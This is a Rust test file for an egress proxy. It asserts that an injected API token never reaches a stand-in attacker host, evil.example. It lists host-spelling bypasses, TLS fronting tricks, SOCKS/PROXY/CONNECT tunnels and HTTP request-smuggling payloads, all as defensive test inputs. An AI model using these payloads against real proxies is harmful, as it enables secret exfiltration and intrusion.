//! What an attacker in a guest tries to bring a real value to a server of its own, or itself to a name that no rule allows;
//! that server keeps every octet that it gets.
#![allow(clippy::unwrap_used, reason = "tests")]

mod support;

use support::{ATTACKER, OTHER, SERVER, World, world};
use tapgate_model::{Mode, Protocol};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

const VALUE: &str = "ghp_realvalue0123456789";
const TOKEN: &str = "Authorization: Bearer IRONSH_PROXY_token\r\nConnection: close\r\n\r\n";

async fn start(w: &mut World) {
    w.zone.set("api.example", &[SERVER]);
    w.zone.set("shared.example", &[OTHER]);
    w.zone.set("evil.example", &[ATTACKER]);
    w.serve((SERVER, 80), None).await;
    w.serve((SERVER, 443), Some(w.ca.server(&["api.example"], &["http/1.1"]))).await;
    w.serve((ATTACKER, 80), None).await;
    // It even has a certificate that clients trust, for its own name.
    w.serve((ATTACKER, 443), Some(w.ca.server(&["evil.example"], &["http/1.1"]))).await;
    w.rules(Mode::Enforce, &["api.example", "shared.example"], &[("token", VALUE, &["api.example"])]);
}

async fn raw(w: &World, port: u16, bytes: &[u8]) -> String {
    let mut stream = w.connect((ATTACKER, port)).await;
    let _ = stream.write_all(bytes).await;
    let _ = stream.shutdown().await;
    let mut all = Vec::new();
    let _ = stream.read_to_end(&mut all).await;
    String::from_utf8_lossy(&all).into_owned()
}

#[test]
fn no_spelling_of_a_host_brings_the_value_elsewhere() {
    world(|mut w| async move {
        start(&mut w).await;
        let hosts = [
            "evil.example",
            "api.example@evil.example",
            "evil.example#api.example",
            "evil.example/api.example",
            "api.example:80@evil.example",
            "api.example.evil.example",
            "api.example\u{3002}evil.example",
            "api\u{ff0e}example",
            "xn--a",
            "xn--pi-7bb.example",
            "api.example\0.evil.example",
            "api.example%00",
            "api.example%2eevil.example",
            "198.51.100.66",
            "198.51.25666",
            "0xc6336442",
            "0306.063.0144.0102",
            "3325256770",
            "[::ffff:198.51.100.66]",
            "[::ffff:c633:6442]",
            "api.example evil.example",
            "api.example,evil.example",
            "api.example;evil.example",
            "\tevil.example",
            "api..example",
            ".api.example",
            "-api.example",
            "api_.example\\@evil.example",
            "",
        ];
        for host in hosts {
            for head in [
                format!("GET /h HTTP/1.1\r\nHost: {host}\r\n{TOKEN}"),
                format!("GET http://{host}/h HTTP/1.1\r\nHost: api.example\r\n{TOKEN}"),
                format!("GET http://api.example/h HTTP/1.1\r\nHost: {host}\r\n{TOKEN}"),
                format!("\r\nGET /h HTTP/1.1\r\nHost: {host}\r\n{TOKEN}"),
            ] {
                let answer = raw(&w, 80, head.as_bytes()).await;
                assert!(!answer.starts_with("HTTP/1.1 200"), "{head:?}: {answer}");
                assert!(!answer.contains(VALUE), "{head:?}");
            }
        }
        // These are the allowed name, and go to it.
        for host in ["API.Example", "api.example.", "api.example:80"] {
            let answer = raw(&w, 80, format!("GET /h HTTP/1.1\r\nHost: {host}\r\n{TOKEN}").as_bytes()).await;
            assert!(answer.starts_with("HTTP/1.1 200") && !answer.contains(VALUE), "{host}: {answer}");
        }
        assert!(w.log.seen().iter().all(|seen| seen.server == SERVER));
        assert!(!w.log.attacker_got("GET"), "nothing at all came to the attacker");
    });
}

#[test]
fn no_tls_trick_brings_the_value_elsewhere() {
    world(|mut w| async move {
        start(&mut w).await;
        let get = |host: &str| format!("GET /t HTTP/1.1\r\nHost: {host}\r\n{TOKEN}");
        // The allowed name at the attacker's address: opened, and dialled by name.
        let answer = w.https((ATTACKER, 443), "api.example", &get("api.example")).await;
        assert!(answer.starts_with("HTTP/1.1 200") && !answer.contains(VALUE), "{answer}");
        // Fronting: the allowed name outside, the attacker's inside; also as the second request.
        for inside in
            [get("evil.example"), get("api.example").replace("close", "keep-alive") + &get("evil.example")]
        {
            let answer = w.https((ATTACKER, 443), "api.example", &inside).await;
            assert!(answer.contains("HTTP/1.1 421"), "{answer}");
        }
        // The attacker's own name, and an address that an allowed name shares.
        for (to, name) in
            [(ATTACKER, "evil.example"), (OTHER, "neighbour.example"), (SERVER, "neighbour.example")]
        {
            assert!(w.tls((to, 443), name, &["http/1.1"]).await.is_err(), "{name}");
        }
        // No name, at a shared address and at the attacker's: an address in the hello is no name (RFC 6066 §3).
        for to in [OTHER, ATTACKER] {
            assert!(w.tls((to, 443), "192.0.2.11", &["http/1.1"]).await.is_err());
        }
        // The allowed name resolves to the attacker: its certificate is not for that name.
        w.zone.set("api.example", &[ATTACKER]);
        w.restart(support::config(&w.ca));
        let answer = w.https((SERVER, 443), "api.example", &get("api.example")).await;
        assert!(answer.starts_with("HTTP/1.1 502") && !answer.contains(VALUE), "{answer}");
        assert!(!w.log.attacker_got(VALUE) && !w.log.attacker_got("GET"));
    });
}

#[test]
fn no_other_protocol_makes_a_tunnel() {
    world(|mut w| async move {
        start(&mut w).await;
        let evil = [198u8, 51, 100, 66];
        let socks4 = [&[4, 1, 0, 80][..], &evil, b"x\0GET / HTTP/1.1\r\n\r\n"].concat();
        let socks5 = [&[5, 1, 0, 5, 1, 0, 1][..], &evil, &[0, 80], b"GET / HTTP/1.1\r\n\r\n"].concat();
        let proxy1 =
            b"PROXY TCP4 192.0.2.10 198.51.100.66 1 80\r\nGET / HTTP/1.1\r\nHost: api.example\r\n\r\n"
                .to_vec();
        let proxy2 = [
            b"\r\n\r\n\0\r\nQUIT\n\x21\x11\0\x0c".as_slice(),
            &evil,
            &evil,
            &[0, 1, 0, 80],
            b"GET / HTTP/1.1\r\n\r\n",
        ]
        .concat();
        let connect = format!(
            "CONNECT evil.example:80 HTTP/1.1\r\nHost: evil.example:80\r\n{TOKEN}GET / HTTP/1.1\r\n\r\n"
        );
        let connect_allowed = format!(
            "CONNECT api.example:80 HTTP/1.1\r\nHost: api.example:80\r\n{TOKEN}GET / HTTP/1.1\r\n\r\n"
        );
        let upgrade = "GET / HTTP/1.1\r\nHost: api.example\r\nConnection: Upgrade\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n";
        for bytes in [
            &socks4[..],
            &socks5,
            &proxy1,
            &proxy2,
            connect.as_bytes(),
            connect_allowed.as_bytes(),
            b"GET / HTTP/0.9\r\n\r\n",
            b"GET /\r\n",
            b"PRI * HTTP/2.0\r\n\r\n",
            b"SSH-2.0-x\r\n",
            b"\0\0\0\0",
        ] {
            for port in [80, 443, 1080, 3128] {
                let answer = raw(&w, port, bytes).await;
                assert!(
                    !answer.contains("HTTP/1.1 200") && !answer.contains("HTTP/1.1 101"),
                    "{bytes:?}: {answer}"
                );
            }
        }
        let _ = raw(&w, 80, upgrade.as_bytes()).await;
        assert!(
            w.log
                .seen()
                .iter()
                .all(|seen| seen.server == SERVER && !seen.headers.contains_key("http2-settings"))
        );
        assert!(!w.log.attacker_got("GET") && !w.log.attacker_got("\u{4}"));
    });
}

#[test]
fn no_request_hides_in_opened_tls_as_another_protocol() {
    world(|mut w| async move {
        start(&mut w).await;
        w.serve((SERVER, 8443), Some(w.ca.server(&["api.example"], &[]))).await;
        for request in [
            "\r\nGET /h HTTP/1.1\r\nHost: api.example\r\n",
            "\r\nGET /h HTTP/1.1\r\nHost: evil.example\r\n",
            "GET /h HTTP/1.1 \r\nHost: evil.example\r\n",
            "GET /h HTTP/2.0\r\nHost: evil.example\r\n",
        ] {
            for port in [443, 8443] {
                let stream = w.tls((SERVER, port), "api.example", &[]).await.unwrap();
                let answer = support::talk(stream, &format!("{request}{TOKEN}")).await;
                assert!(answer.starts_with("HTTP/1.1 400"), "{request:?}: {answer}");
                let event = w.event().await;
                assert_eq!((event.protocol, event.status), (Protocol::Http, Some(400)), "{request:?}");
            }
        }
        assert!(w.log.seen().is_empty(), "{:?}", w.log.seen());
    });
}

#[test]
fn smuggled_requests_are_never_a_second_request() {
    world(|mut w| async move {
        start(&mut w).await;
        let evil = "GET /smuggled HTTP/1.1\r\nHost: api.example\r\n\r\n";
        let host = "Host: api.example\r\n";
        let cases = [
            format!(
                "POST / HTTP/1.1\r\n{host}Content-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{evil}"
            ),
            format!(
                "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\nContent-Length: 6\r\n\r\n0\r\n\r\n{evil}"
            ),
            format!(
                "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{evil}"
            ),
            format!(
                "POST / HTTP/1.1\r\n{host}Transfer-Encoding: identity\r\nContent-Length: {}\r\n\r\n{evil}",
                0
            ),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked, gzip\r\n\r\n0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.0\r\n{host}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Content-Length: 0, 48\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Content-Length: +0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Content-Length: 0x0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Content-Length: -1\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Content-Length: 99999999999999999999\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\n{host}Content-Length: 0\r\n\r\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n0\n\n{evil}"),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n0;\n{evil}"),
            format!(
                "POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n00000000000000000\r\n\r\n{evil}"
            ),
            format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n{evil}"),
            format!("GET / HTTP/1.1\r\n{host}X: a\rTransfer-Encoding: chunked\r\n\r\n{evil}"),
        ];
        for case in &cases {
            let answer = raw(&w, 80, case.as_bytes()).await;
            assert!(!answer.contains("HTTP/1.1 200"), "{case:?}: {answer}");
        }
        assert!(w.log.seen().iter().all(|seen| !seen.line.contains("smuggled")), "{:?}", w.log.seen());
    });
}
